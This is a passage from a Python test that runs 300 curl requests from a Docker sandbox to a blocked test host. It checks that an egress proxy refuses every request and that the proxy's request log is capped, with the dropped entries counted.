        )
    )
    box = None
    n = 300
    try:
        box = _sandbox(docker_client, base_image, sample, "chatty")
        code, out = sh(
            box,
            f"for i in $(seq 1 {n}); do curl -s -o /dev/null -w '%{{http_code}}\\n' "
            '"http://blocked.test/?i=$i"; done | sort | uniq -c',
        )
        assert code == 0 and out.split() == [str(n), "403"], out
        [log] = [r for r in anyio.run(sample.evidence) if isinstance(r, ProxyLog)]
        full = docker_client.api.logs(sample._state.proxy, stdout=True, stderr=False)
        assert len(full) > 8 * 1024  # control: the whole log is larger than the cap
    finally:
        if box is not None:
            box.remove(force=True)
        anyio.run(sample.teardown)
    assert log.truncated and log.dropped > 0
    assert 0 < len(log.requests) < n and len(log.requests) + log.dropped == n
    assert sum(len(r.url) + 100 for r in log.requests) < 8 * 1024 * 2
    assert log.requests[0].url.endswith("?i=1") and log.requests[-1].url.endswith(f"?i={n}")
    assert all(not r.allowed for r in log.requests)
